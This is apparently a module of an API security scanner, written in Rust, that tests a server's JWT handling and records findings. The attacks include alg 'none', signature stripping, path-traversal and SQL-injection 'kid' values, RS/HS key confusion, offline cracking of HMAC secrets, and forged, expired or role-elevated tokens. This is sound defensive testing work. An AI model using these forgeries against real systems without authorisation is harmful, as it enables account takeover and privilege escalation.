//! Token attacks, each judged against the baseline oracle. Every attack that keeps the valid
//! token's claims (and so its `jti`) tests the signature check alone; attacks that need the key
//! run only when the offline crack found it, and then tell apart "forged token accepted" from
//! "forged with the right key but refused because the server does not know it".

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::time::{SystemTime, UNIX_EPOCH};

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use jsonwebtoken::{Algorithm, EncodingKey};
use reqwest::Method;
use serde_json::{Map, Value, json};

use super::baseline::{self, Oracle, Verdict};
use super::client::{Exchange, SendError};
use super::openapi::Declared;
use super::rules::{
    JWT_ALG_NONE_ACCEPTED, JWT_CLAIMS_TRUSTED, JWT_EXPIRED_ACCEPTED, JWT_FORGED_TOKEN_ACCEPTED,
    JWT_FORGED_TOKEN_REFUSED, JWT_KEY_GUESSABLE, JWT_SIGNATURE_NOT_VERIFIED,
};
use super::{Context, Family, ProbeError};
use crate::finding::{Finding, Location};

/// Framework and tutorial default secrets, tried offline (and online for non-HMAC tokens).
const EMBEDDED_SECRETS: &str = include_str!("weak_jwt_secrets.txt");

/// How many embedded secrets are sent online when the token is not HMAC-signed (offline cracking
/// is impossible then, and each guess costs a request).
const ONLINE_SECRET_GUESSES: usize = 10;

fn embedded_secrets() -> impl Iterator<Item = &'static str> {
    EMBEDDED_SECRETS
        .lines()
        .filter(|line| !line.is_empty() && !line.starts_with("# "))
}

/// A JWT split into its parts; the original segments are kept so attacks can reuse them verbatim.
#[derive(Debug, Clone)]
pub struct Jwt {
    header_segment: String,
    payload_segment: String,
    signature_segment: String,
    header: Map<String, Value>,
    claims: Map<String, Value>,
}

impl Jwt {
    pub fn parse(token: &str) -> Option<Self> {
        let mut parts = token.split('.');
        let (Some(header_segment), Some(payload_segment), Some(signature_segment), None) =
            (parts.next(), parts.next(), parts.next(), parts.next())
        else {
            return None;
        };
        let decode = |segment: &str| -> Option<Map<String, Value>> {
            let bytes = URL_SAFE_NO_PAD.decode(segment.trim_end_matches('=')).ok()?;
            serde_json::from_slice::<Value>(&bytes)
                .ok()?
                .as_object()
                .cloned()
        };
        Some(Jwt {
            header: decode(header_segment)?,
            claims: decode(payload_segment)?,
            header_segment: header_segment.to_owned(),
            payload_segment: payload_segment.to_owned(),
            signature_segment: signature_segment.to_owned(),
        })
    }

    fn algorithm_name(&self) -> &str {
        self.header.get("alg").and_then(Value::as_str).unwrap_or("")
    }

    /// The HMAC algorithm the token was signed with, if it was.
    fn hmac_algorithm(&self) -> Option<Algorithm> {
        match self.algorithm_name() {
            "HS256" => Some(Algorithm::HS256),
            "HS384" => Some(Algorithm::HS384),
            "HS512" => Some(Algorithm::HS512),
            _ => None,
        }
    }

    fn is_rsa(&self) -> bool {
        let name = self.algorithm_name();
        name.starts_with("RS") || name.starts_with("PS")
    }

    fn signing_input(&self) -> String {
        format!("{}.{}", self.header_segment, self.payload_segment)
    }
}

fn segment(value: &Map<String, Value>) -> String {
    // Serialising a map of JSON values cannot fail.
    URL_SAFE_NO_PAD.encode(serde_json::to_vec(value).unwrap_or_default())
}

/// `header.payload.` with `alg` set to a spelling of `none`. Built by hand: jsonwebtoken refuses
/// to produce unsigned tokens, which is right for an issuer and exactly what an attacker ignores.
fn unsigned(jwt: &Jwt, alg: &str) -> String {
    let mut header = jwt.header.clone();
    header.insert("alg".to_owned(), json!(alg));
    format!("{}.{}.", segment(&header), jwt.payload_segment)
}

/// Signs `claims` under `header` (its `alg` forced to `algorithm`) with an HMAC key. The header is
/// serialised from the original map rather than jsonwebtoken's `Header` so that every field the
/// server saw (`typ`, `kid`, custom ones) is kept as it was.
fn sign_hmac(
    header: &Map<String, Value>,
    claims: &Map<String, Value>,
    key: &[u8],
    algorithm: Algorithm,
) -> Option<String> {
    let mut header = header.clone();
    header.insert("alg".to_owned(), json!(format!("{algorithm:?}")));
    let input = format!("{}.{}", segment(&header), segment(claims));
    let signature =
        jsonwebtoken::crypto::sign(input.as_bytes(), &EncodingKey::from_secret(key), algorithm)
            .ok()?;
    Some(format!("{input}.{signature}"))
}

fn now() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |elapsed| {
            i64::try_from(elapsed.as_secs()).unwrap_or(i64::MAX)
        })
}

/// Another subject of the same shape, so a server that looks users up by `sub` finds someone else.
fn other_subject(subject: &Value) -> Value {
    match subject {
        Value::Number(number) => json!(if number.as_i64() == Some(1) { 2 } else { 1 }),
        Value::String(text) if text.parse::<i64>().is_ok() => {
            json!(if text == "1" { "2" } else { "1" })
        }
        Value::String(text) if uuid::Uuid::parse_str(text).is_ok() => {
            json!(if text.ends_with('1') {
                "00000000-0000-0000-0000-000000000002"
            } else {
                "00000000-0000-0000-0000-000000000001"
            })
        }
        _ => json!("admin"),
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Attack {
    AlgNone,
    SignatureIgnored,
    KidInjection,
    AlgorithmConfusion,
    DefaultSecretOnline,
    /// Never-issued token signed with the cracked key.
    Forged,
    /// Issued claims (same `jti`) plus a harmless claim, signed with the cracked key.
    Control,
    Expired,
    SubjectTampered,
}

struct Attempt {
    attack: Attack,
    label: String,
    token: String,
}

struct Outcome {
    attack: Attack,
    label: String,
    verdict: Verdict,
    exchange: Exchange,
}

/// Where a crack candidate came from: embedded defaults are public knowledge and printed; project
/// and wordlist secrets are masked in reports.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Source {
    Embedded,
    /// Generated from placeholder words and patterns (`weak_secrets.rs`): public, printed.
    Generated,
    Project,
    Wordlist,
}

#[derive(Debug, Clone)]
struct Cracked {
    key: Vec<u8>,
    source: Source,
    algorithm: Algorithm,
}

struct CrackReport {
    found: Option<Cracked>,
    tried: u64,
    cut_short: bool,
    wordlist_error: Option<String>,
}

/// The wordlist must be a readable file; it is read lazily later, so check it up front.
pub fn check_wordlist(path: &Path) -> Result<(), ProbeError> {
    let read_error = |source| ProbeError::ReadFile {
        what: "wordlist",
        path: path.to_path_buf(),
        source,
    };
    let metadata = std::fs::metadata(path).map_err(read_error)?;
    if !metadata.is_file() {
        return Err(read_error(std::io::Error::new(
            std::io::ErrorKind::InvalidInput,
            "not a regular file",
        )));
    }
    std::fs::File::open(path).map(drop).map_err(read_error)
}

/// True when `signature` is the HMAC of `input` under `key` (constant-time comparison).
fn hmac_matches(algorithm: Algorithm, key: &[u8], input: &[u8], signature: &[u8]) -> bool {
    use hmac::digest::KeyInit;
    use hmac::{Hmac, Mac};
    fn check<M: Mac + KeyInit>(key: &[u8], input: &[u8], signature: &[u8]) -> bool {
        match <M as KeyInit>::new_from_slice(key) {
            Ok(mut mac) => {
                Mac::update(&mut mac, input);
                mac.verify_slice(signature).is_ok()
            }
            Err(_) => false,
        }
    }
    match algorithm {
        Algorithm::HS256 => check::<Hmac<sha2::Sha256>>(key, input, signature),
        Algorithm::HS384 => check::<Hmac<sha2::Sha384>>(key, input, signature),
        Algorithm::HS512 => check::<Hmac<sha2::Sha512>>(key, input, signature),
        _ => false,
    }
}

/// Offline dictionary attack on an HMAC-signed token: no request is sent. Runs on a blocking
/// thread; stops at the deadline and says so.
fn crack(
    jwt: &Jwt,
    algorithm: Algorithm,
    generated: &[String],
    project: &[String],
    wordlist: Option<&PathBuf>,
    deadline: std::time::Instant,
) -> CrackReport {
    let input = jwt.signing_input();
    let signature = URL_SAFE_NO_PAD
        .decode(jwt.signature_segment.trim_end_matches('='))
        .ok();
    let mut report = CrackReport {
        found: None,
        tried: 0,
        cut_short: false,
        wordlist_error: None,
    };
    let try_key = |key: &[u8], source: Source, report: &mut CrackReport| -> bool {
        report.tried += 1;
        if report.tried % 4096 == 0 && std::time::Instant::now() >= deadline {
            report.cut_short = true;
            return true;
        }
        let matches = signature
            .as_deref()
            .is_some_and(|signature| hmac_matches(algorithm, key, input.as_bytes(), signature));
        if matches {
            report.found = Some(Cracked {
                key: key.to_vec(),
                source,
                algorithm,
            });
        }
        matches
    };
    let embedded = std::iter::once("").chain(embedded_secrets());
    for key in embedded {
        if try_key(key.as_bytes(), Source::Embedded, &mut report) {
            return report;
        }
    }
    for key in generated {
        if try_key(key.as_bytes(), Source::Generated, &mut report) {
            return report;
        }
    }
    for key in project {
        if try_key(key.as_bytes(), Source::Project, &mut report) {
            return report;
        }
    }
    if let Some(path) = wordlist {
        match std::fs::File::open(path) {
            Ok(file) => {
                for line in BufReader::new(file).split(b'\n') {
                    match line {
                        Ok(mut key) => {
                            if key.last() == Some(&b'\r') {
                                key.pop();
                            }
                            if try_key(&key, Source::Wordlist, &mut report) {
                                return report;
                            }
                        }
                        Err(error) => {
                            report.wordlist_error = Some(error.to_string());
                            break;
                        }
                    }
                }
            }
            Err(error) => report.wordlist_error = Some(error.to_string()),
        }
    }
    report
}

/// The project's directory name, lower-cased, as a word of generated secrets (`shop-secret`).
fn project_names(project: Option<&Path>) -> Vec<String> {
    project
        .and_then(|path| path.canonicalize().ok())
        .and_then(|path| {
            path.file_name()
                .map(|name| name.to_string_lossy().to_lowercase())
        })
        .filter(|name| !name.is_empty())
        .into_iter()
        .collect()
}

fn describe_key(cracked: &Cracked) -> String {
    match cracked.source {
        Source::Embedded if cracked.key.is_empty() => "the empty secret".to_owned(),
        Source::Embedded => format!(
            "the well-known default `{}` (embedded list)",
            String::from_utf8_lossy(&cracked.key)
        ),
        Source::Generated => format!(
            "the guessable `{}` (generated from placeholder words and patterns)",
            String::from_utf8_lossy(&cracked.key)
        ),
        Source::Project | Source::Wordlist => {
            let text = String::from_utf8_lossy(&cracked.key);
            let shown: String = text.chars().take(3).collect();
            format!(
                "a secret from {} (`{shown}…`, {} bytes)",
                if cracked.source == Source::Project {
                    "the project (--project)"
                } else {
                    "the wordlist"
                },
                cracked.key.len()
            )
        }
    }
}

pub async fn probe(context: &mut Context) {
    let me_path = context.endpoints.me.clone();
    let Some(session) = context.session.clone() else {
        context.add(baseline::no_session_note(Family::Jwt, &me_path));
        return;
    };
    let oracle = match baseline::build_oracle(context, &session).await {
        Ok(Some(oracle)) => oracle,
        Ok(None) => return,
        Err(error) => {
            context.send_failed(Family::Jwt, &me_path, &error);
            return;
        }
    };
    context.oracle = Some(oracle.clone());
    let Some(jwt) = Jwt::parse(&session.token) else {
        context.incomplete(
            Family::Jwt,
            &me_path,
            "the access token is not a JWT (opaque token): only the baseline ran, and it passed",
        );
        return;
    };

    let cracked = match jwt.hmac_algorithm() {
        Some(algorithm) => {
            let jwt_for_crack = jwt.clone();
            let project = context.plan.project_secrets.clone();
            let names = project_names(context.plan.args.project.as_deref());
            let wordlist = context.plan.args.wordlist.clone();
            let deadline = std::time::Instant::now() + context.client.time_left();
            let joined = tokio::task::spawn_blocking(move || {
                let generated = super::weak_secrets::generated(&names);
                crack(
                    &jwt_for_crack,
                    algorithm,
                    &generated,
                    &project,
                    wordlist.as_ref(),
                    deadline,
                )
            })
            .await;
            match joined {
                Ok(report) => {
                    if report.cut_short {
                        context
                            .exhausted
                            .get_or_insert_with(|| SendError::Deadline.to_string());
                        context.incomplete(
                            Family::Jwt,
                            &me_path,
                            format!(
                                "offline crack stopped at the time limit after {} candidates",
                                report.tried
                            ),
                        );
                    }
                    if let Some(error) = report.wordlist_error {
                        context.incomplete(
                            Family::Jwt,
                            &me_path,
                            format!("wordlist read failed: {error}"),
                        );
                    }
                    report.found
                }
                Err(error) => {
                    context.incomplete(
                        Family::Jwt,
                        &me_path,
                        format!("offline crack failed: {error}"),
                    );
                    None
                }
            }
        }
        None => None,
    };
    if let Some(key) = &cracked {
        context.add(Finding::new(
            &JWT_KEY_GUESSABLE,
            Location::file(&me_path),
            format!(
                "the {:?} signature of the token issued at login is reproduced with {}",
                key.algorithm,
                describe_key(key)
            ),
        ));
    }

    let mut attempts = signature_attempts(&jwt);
    if jwt.is_rsa() {
        attempts.extend(confusion_attempts(context, &jwt).await);
    }
    if jwt.hmac_algorithm().is_none() {
        for secret in embedded_secrets().take(ONLINE_SECRET_GUESSES) {
            if let Some(token) = sign_hmac(
                &jwt.header,
                &jwt.claims,
                secret.as_bytes(),
                Algorithm::HS256,
            ) {
                attempts.push(Attempt {
                    attack: Attack::DefaultSecretOnline,
                    label: format!("HS256 with the default secret `{secret}`"),
                    token,
                });
            }
        }
    }
    if let Some(key) = &cracked {
        attempts.extend(keyed_attempts(&jwt, key));
    }
    let mut outcomes = Vec::new();
    for attempt in attempts {
        match baseline::call_oracle(context, Some(&attempt.token)).await {
            Ok(exchange) => outcomes.push(Outcome {
                attack: attempt.attack,
                label: attempt.label,
                verdict: oracle.judge(&exchange),
                exchange,
            }),
            Err(error) => {
                context.send_failed(Family::Jwt, &me_path, &error);
                break;
            }
        }
    }
    report(context, &oracle, &outcomes, cracked.as_ref());
    if let Some(key) = &cracked {
        role_tamper(context, &jwt, key).await;
    }
}

/// Attacks on the signature check alone: the valid claims (same `jti`) with no or a wrong signature.
fn signature_attempts(jwt: &Jwt) -> Vec<Attempt> {
    let mut attempts: Vec<Attempt> = ["none", "None", "NONE", "nOnE"]
        .iter()
        .map(|alg| Attempt {
            attack: Attack::AlgNone,
            label: format!("alg `{alg}`, no signature"),
            token: unsigned(jwt, alg),
        })
        .collect();
    attempts.push(Attempt {
        attack: Attack::SignatureIgnored,
        label: "original header, signature removed".to_owned(),
        token: format!("{}.", jwt.signing_input()),
    });
    let mut tampered = jwt.claims.clone();
    match tampered.get("sub").cloned() {
        Some(subject) => tampered.insert("sub".to_owned(), other_subject(&subject)),
        None => tampered.insert("role".to_owned(), json!("admin")),
    };
    attempts.push(Attempt {
        attack: Attack::SignatureIgnored,
        label: "claims changed under the original signature".to_owned(),
        token: format!(
            "{}.{}.{}",
            jwt.header_segment,
            segment(&tampered),
            jwt.signature_segment
        ),
    });
    // `kid` pointing at a file or an SQL expression whose content the attacker knows.
    let kid_variants: [(&str, &[u8]); 4] = [
        ("../../../../../../../../../../dev/null", b""),
        ("/dev/null", b""),
        ("' UNION SELECT 'shasec-kid-key' -- ", b"shasec-kid-key"),
        (
            "../../../../../../../../../../proc/sys/kernel/randomize_va_space",
            b"2\n",
        ),
    ];
    for (kid, key) in kid_variants {
        let mut header = jwt.header.clone();
        header.insert("kid".to_owned(), json!(kid));
        if let Some(token) = sign_hmac(&header, &jwt.claims, key, Algorithm::HS256) {
            attempts.push(Attempt {
                attack: Attack::KidInjection,
                label: format!("kid `{kid}` signed with that file's or query's content"),
                token,
            });
        }
    }
    attempts
}

/// Attacks that need the cracked key.
fn keyed_attempts(jwt: &Jwt, key: &Cracked) -> Vec<Attempt> {
    let now = now();
    let mut attempts = Vec::new();
    let mut control = jwt.claims.clone();
    control.insert("shasec".to_owned(), json!("control"));
    let mut forged = jwt.claims.clone();
    forged.insert("jti".to_owned(), json!(uuid::Uuid::new_v4().to_string()));
    forged.insert("iat".to_owned(), json!(now));
    forged.insert("exp".to_owned(), json!(now + 300));
    if forged.contains_key("nbf") {
        forged.insert("nbf".to_owned(), json!(now));
    }
    let mut expired = jwt.claims.clone();
    expired.insert("iat".to_owned(), json!(now - 7200));
    expired.insert("exp".to_owned(), json!(now - 3600));
    expired.remove("nbf");
    let mut subject = jwt.claims.clone();
    if let Some(original) = jwt.claims.get("sub") {
        subject.insert("sub".to_owned(), other_subject(original));
    }
    let plans = [
        (
            Attack::Control,
            "issued claims re-signed with the guessed key (control)",
            control,
        ),
        (
            Attack::Forged,
            "never-issued token (new jti) signed with the guessed key",
            forged,
        ),
        (
            Attack::Expired,
            "issued token re-signed with exp one hour ago",
            expired,
        ),
        (
            Attack::SubjectTampered,
            "issued token re-signed with another sub",
            subject,
        ),
    ];
    for (attack, label, claims) in plans {
        if attack == Attack::SubjectTampered && !jwt.claims.contains_key("sub") {
            continue;
        }
        if let Some(token) = sign_hmac(&jwt.header, &claims, &key.key, key.algorithm) {
            attempts.push(Attempt {
                attack,
                label: label.to_owned(),
                token,
            });
        }
    }
    attempts
}

/// RS/HS confusion: an RSA public key published as JWKS, used as an HMAC secret (PEM bytes).
async fn confusion_attempts(context: &mut Context, jwt: &Jwt) -> Vec<Attempt> {
    let mut keys: Vec<Value> = Vec::new();
    let mut paths = vec![
        "/.well-known/jwks.json".to_owned(),
        "/jwks.json".to_owned(),
        "/.well-known/openid-configuration".to_owned(),
    ];
    let mut index = 0;
    while index < paths.len() && index < 4 {
        let path = paths[index].clone();
        index += 1;
        let request = context.client.request(Method::GET, &path);
        let exchange = match context.client.send(Method::GET, &path, request).await {
            Ok(exchange) => exchange,
            Err(error) => {
                context.send_failed(Family::Jwt, &path, &error);
                break;
            }
        };
        let Some(body) = exchange.json().filter(|_| exchange.is_success()) else {
            continue;
        };
        if let Some(found) = body.get("keys").and_then(Value::as_array) {
            keys.extend(found.iter().cloned());
            break;
        }
        let jwks_path = body
            .get("jwks_uri")
            .and_then(Value::as_str)
            .and_then(|uri| url::Url::parse(uri).ok())
            .filter(|uri| uri.origin() == context.target.base.origin())
            .map(|uri| uri.path().to_owned());
        if let Some(jwks_path) = jwks_path {
            paths.push(jwks_path);
        }
    }
    let mut attempts = Vec::new();
    for key in keys
        .iter()
        .filter(|key| key.get("kty").and_then(Value::as_str) == Some("RSA"))
        .take(2)
    {
        for (format, pem) in rsa_pems(key) {
            for (variant, bytes) in [
                ("", pem.clone()),
                (" without its final newline", pem.trim_end().to_owned()),
            ] {
                if let Some(token) =
                    sign_hmac(&jwt.header, &jwt.claims, bytes.as_bytes(), Algorithm::HS256)
                {
                    attempts.push(Attempt {
                        attack: Attack::AlgorithmConfusion,
                        label: format!(
                            "HS256 keyed with the published RSA key as {format} PEM{variant}"
                        ),
                        token,
                    });
                }
            }
        }
    }
    attempts
}

fn rsa_pems(jwk: &Value) -> Vec<(&'static str, String)> {
    use rsa::pkcs1::EncodeRsaPublicKey;
    use rsa::pkcs8::EncodePublicKey;
    let component = |name: &str| {
        jwk.get(name)
            .and_then(Value::as_str)
            .and_then(|text| URL_SAFE_NO_PAD.decode(text.trim_end_matches('=')).ok())
            .map(|bytes| rsa::BigUint::from_bytes_be(&bytes))
    };
    let (Some(modulus), Some(exponent)) = (component("n"), component("e")) else {
        return Vec::new();
    };
    let Ok(key) = rsa::RsaPublicKey::new(modulus, exponent) else {
        return Vec::new();
    };
    let mut pems = Vec::new();
    if let Ok(pem) = key.to_public_key_pem(rsa::pkcs8::LineEnding::LF) {
        pems.push(("SubjectPublicKeyInfo", pem));
    }
    if let Ok(pem) = key.to_pkcs1_pem(rsa::pkcs8::LineEnding::LF) {
        pems.push(("PKCS#1", pem));
    }
    pems
}

fn accepted(outcomes: &[Outcome], attack: Attack) -> Vec<&Outcome> {
    outcomes
        .iter()
        .filter(|outcome| outcome.attack == attack && outcome.verdict == Verdict::Accepted)
        .collect()
}

fn labels(outcomes: &[&Outcome]) -> String {
    outcomes
        .iter()
        .map(|outcome| format!("{} ({})", outcome.label, outcome.exchange.status.as_u16()))
        .collect::<Vec<_>>()
        .join("; ")
}

fn report(context: &mut Context, oracle: &Oracle, outcomes: &[Outcome], cracked: Option<&Cracked>) {
    let me_path = context.endpoints.me.clone();
    let location = || Location::file(&me_path);
    let refused = oracle.no_token.status.as_u16();
    let none = accepted(outcomes, Attack::AlgNone);
    if !none.is_empty() {
        context.add(Finding::new(
            &JWT_ALG_NONE_ACCEPTED,
            location(),
            format!(
                "GET {me_path} accepted: {} (no token -> {refused})",
                labels(&none)
            ),
        ));
    }
    let ignored = accepted(outcomes, Attack::SignatureIgnored);
    if !ignored.is_empty() {
        context.add(Finding::new(
            &JWT_SIGNATURE_NOT_VERIFIED,
            location(),
            format!(
                "GET {me_path} accepted: {} (no token -> {refused})",
                labels(&ignored)
            ),
        ));
    }
    for (attack, what) in [
        (Attack::KidInjection, "a `kid` header injection"),
        (Attack::AlgorithmConfusion, "RS/HS algorithm confusion"),
        (Attack::DefaultSecretOnline, "a default HMAC secret"),
    ] {
        let hits = accepted(outcomes, attack);
        if !hits.is_empty() {
            context.add(Finding::new(
                &JWT_FORGED_TOKEN_ACCEPTED,
                location(),
                format!(
                    "token forged with {what} accepted by GET {me_path}: {}",
                    labels(&hits)
                ),
            ));
        }
    }
    if cracked.is_some() {
        let find = |attack: Attack| outcomes.iter().find(|outcome| outcome.attack == attack);
        let control = find(Attack::Control);
        if let Some(forged) = find(Attack::Forged) {
            let control_note = match control {
                Some(control) if control.verdict == Verdict::Accepted => format!(
                    "the issued claims re-signed with the same key were accepted ({}), so the key is \
                     right and the refusal is the server not knowing the token",
                    control.exchange.status.as_u16()
                ),
                Some(control) => format!(
                    "even the issued claims re-signed with the same key were refused ({}): the server \
                     recognises the exact tokens it issued",
                    control.exchange.status.as_u16()
                ),
                None => "no control request could be sent".to_owned(),
            };
            match forged.verdict {
                Verdict::Accepted => context.add(Finding::new(
                    &JWT_FORGED_TOKEN_ACCEPTED,
                    location(),
                    format!(
                        "a token never issued by the server, signed with the guessed key, was accepted \
                         ({}): anyone can log in as anyone",
                        forged.exchange.summary()
                    ),
                )),
                Verdict::Refused => context.add(Finding::new(
                    &JWT_FORGED_TOKEN_REFUSED,
                    location(),
                    format!(
                        "a never-issued token signed with the guessed key was refused ({}); {control_note}",
                        forged.exchange.status.as_u16()
                    ),
                )),
                _ => {}
            }
        }
        if let Some(expired) =
            find(Attack::Expired).filter(|outcome| outcome.verdict == Verdict::Accepted)
        {
            context.add(Finding::new(
                &JWT_EXPIRED_ACCEPTED,
                location(),
                format!("{}: {}", expired.label, expired.exchange.summary()),
            ));
        }
        if let Some(tampered) =
            find(Attack::SubjectTampered).filter(|outcome| outcome.verdict == Verdict::Accepted)
        {
            let original = Oracle::identity(&oracle.valid);
            let answered = Oracle::identity(&tampered.exchange);
            if answered.is_some() && answered != original {
                context.add(Finding::new(
                    &JWT_CLAIMS_TRUSTED,
                    location(),
                    format!(
                        "{}: the server answered as {} instead of {} — the session's jti is not bound to its user",
                        tampered.label,
                        answered.map(|value| value.to_string()).unwrap_or_default(),
                        original.map(|value| value.to_string()).unwrap_or_default()
                    ),
                ));
            }
        }
    }
    let unclear: Vec<String> = outcomes
        .iter()
        .filter_map(|outcome| match outcome.verdict {
            Verdict::Unclear(status) => Some(format!("{} -> {}", outcome.label, status.as_u16())),
            Verdict::RateLimited => Some(format!("{} -> 429", outcome.label)),
            _ => None,
        })
        .collect();
    if !unclear.is_empty() {
        context.incomplete(
            Family::Jwt,
            &me_path,
            format!(
                "answers neither like the valid token nor like a refused one, so not judged: {}",
                unclear.join("; ")
            ),
        );
    }
}

/// With the key: add role claims to the issued token and try an admin route the real user is refused.
async fn role_tamper(context: &mut Context, jwt: &Jwt, key: &Cracked) {
    let admin_path = context.openapi.as_ref().and_then(|document| {
        document
            .operations
            .iter()
            .find(|operation| {
                operation.method == Method::GET
                    && operation.declared == Declared::Protected
                    && operation.template.contains("admin")
                    && !operation.template.contains('{')
            })
            .map(|operation| operation.concrete.clone())
    });
    let (Some(admin_path), Some(session)) = (admin_path, context.session.clone()) else {
        return;
    };
    let mut claims = jwt.claims.clone();
    claims.insert("role".to_owned(), json!("admin"));
    claims.insert("roles".to_owned(), json!(["admin"]));
    claims.insert("is_admin".to_owned(), json!(true));
    claims.insert("admin".to_owned(), json!(true));
    claims.insert("scope".to_owned(), json!("admin"));
    claims.insert("groups".to_owned(), json!(["admin"]));
    let Some(token) = sign_hmac(&jwt.header, &claims, &key.key, key.algorithm) else {
        return;
    };
    let mut exchanges = Vec::new();
    for token in [session.token.as_str(), token.as_str()] {
        let request = session.present(context.client.request(Method::GET, &admin_path), token);
        match context
            .client
            .send_patiently(Method::GET, &admin_path, request)
            .await
        {
            Ok(exchange) => exchanges.push(exchange),
            Err(error) => {
                context.send_failed(Family::Jwt, &admin_path, &error);
                return;
            }
        }
    }
    if let [as_user, as_tampered] = exchanges.as_slice() {
        let user_refused = matches!(as_user.status.as_u16(), 401 | 403);
        if user_refused && as_tampered.is_success() {
            context.add(Finding::new(
                &JWT_CLAIMS_TRUSTED,
                Location::file(&admin_path),
                format!(
                    "the user's own token is refused ({}) but the same token with role claims added and \
                     re-signed with the guessed key is let in ({})",
                    as_user.summary(),
                    as_tampered.status.as_u16()
                ),
            ));
        }
    }
}

/// Keeps the offline crack bounded in tests without sleeping.
#[cfg(test)]
fn far_deadline() -> std::time::Instant {
    std::time::Instant::now() + std::time::Duration::from_secs(60)
}

#[cfg(test)]
mod tests {
    use jsonwebtoken::{Header, encode};

    use super::*;

    fn token(secret: &[u8]) -> String {
        let claims = json!({"sub": "42", "jti": "abc", "exp": now() + 600, "iat": now()});
        encode(
            &Header::new(Algorithm::HS256),
            &claims,
            &EncodingKey::from_secret(secret),
        )
        .unwrap_or_default()
    }

    #[test]
    fn default_secret_is_cracked_offline_and_strong_one_is_not() {
        let weak = Jwt::parse(&token(b"your-256-bit-secret"));
        let Some(weak) = weak else {
            panic!("token should parse")
        };
        let report = crack(&weak, Algorithm::HS256, &[], &[], None, far_deadline());
        assert_eq!(
            report.found.map(|found| found.key),
            Some(b"your-256-bit-secret".to_vec())
        );

        let strong = Jwt::parse(&token(b"kR9v2Lq8Zt5Xw1Yb7Nc4Md6Pf3Gh0Js2Ua8Ve5Wi1Oy"));
        let Some(strong) = strong else {
            panic!("token should parse")
        };
        let report = crack(
            &strong,
            Algorithm::HS256,
            &super::super::weak_secrets::generated(&[]),
            &["project-secret".to_owned()],
            None,
            far_deadline(),
        );
        assert!(report.found.is_none());
        assert!(report.tried > 20_000, "{}", report.tried);
    }

    #[test]
    fn a_generated_placeholder_is_cracked_and_printed_as_such() {
        let secret = "MY_JWT_SECRET_KEY_2025";
        let Some(jwt) = Jwt::parse(&token(secret.as_bytes())) else {
            panic!("token should parse")
        };
        let generated = super::super::weak_secrets::generated(&[]);
        let report = crack(
            &jwt,
            Algorithm::HS256,
            &generated,
            &[],
            None,
            far_deadline(),
        );
        let Some(found) = report.found else {
            panic!("{secret} should be generated");
        };
        assert_eq!(found.source, Source::Generated);
        assert!(describe_key(&found).contains(secret));
    }

    #[test]
    fn project_and_wordlist_secrets_are_candidates() {
        let secret = "a-project-specific-value";
        let Some(jwt) = Jwt::parse(&token(secret.as_bytes())) else {
            panic!("token should parse")
        };
        let report = crack(
            &jwt,
            Algorithm::HS256,
            &[],
            &[secret.to_owned()],
            None,
            far_deadline(),
        );
        assert_eq!(
            report.found.map(|found| found.source),
            Some(Source::Project)
        );

        let directory = tempfile::tempdir().ok();
        let Some(directory) = directory else {
            panic!("tempdir")
        };
        let wordlist = directory.path().join("words.txt");
        assert!(std::fs::write(&wordlist, format!("alpha\r\n{secret}\r\nomega\n")).is_ok());
        let report = crack(
            &jwt,
            Algorithm::HS256,
            &[],
            &[],
            Some(&wordlist),
            far_deadline(),
        );
        assert_eq!(
            report.found.map(|found| found.source),
            Some(Source::Wordlist)
        );
    }

    #[test]
    fn unsigned_token_keeps_the_claims_and_has_an_empty_signature() {
        let original = token(b"k");
        let Some(jwt) = Jwt::parse(&original) else {
            panic!("token should parse")
        };
        let forged = unsigned(&jwt, "none");
        assert!(forged.ends_with('.'));
        let Some(parsed) = Jwt::parse(&forged) else {
            panic!("forged token should parse")
        };
        assert_eq!(parsed.claims, jwt.claims);
        assert_eq!(parsed.algorithm_name(), "none");
    }

    #[test]
    fn hmac_signing_with_a_known_key_verifies() {
        let Some(jwt) = Jwt::parse(&token(b"k")) else {
            panic!("token should parse")
        };
        let Some(resigned) = sign_hmac(&jwt.header, &jwt.claims, b"k", Algorithm::HS256) else {
            panic!("signing should work")
        };
        let Some(parsed) = Jwt::parse(&resigned) else {
            panic!("should parse")
        };
        let valid = jsonwebtoken::crypto::verify(
            &parsed.signature_segment,
            parsed.signing_input().as_bytes(),
            &jsonwebtoken::DecodingKey::from_secret(b"k"),
            Algorithm::HS256,
        );
        assert!(matches!(valid, Ok(true)));
    }

    #[test]
    fn other_subject_keeps_the_shape() {
        assert_eq!(other_subject(&json!(1)), json!(2));
        assert_eq!(other_subject(&json!("7")), json!("1"));
        assert_eq!(
            other_subject(&json!("6c1f7f2e-9d2b-4a59-9b7e-0d6a5b0f8e3c")),
            json!("00000000-0000-0000-0000-000000000001")
        );
        assert_eq!(other_subject(&json!("alice")), json!("admin"));
    }
}
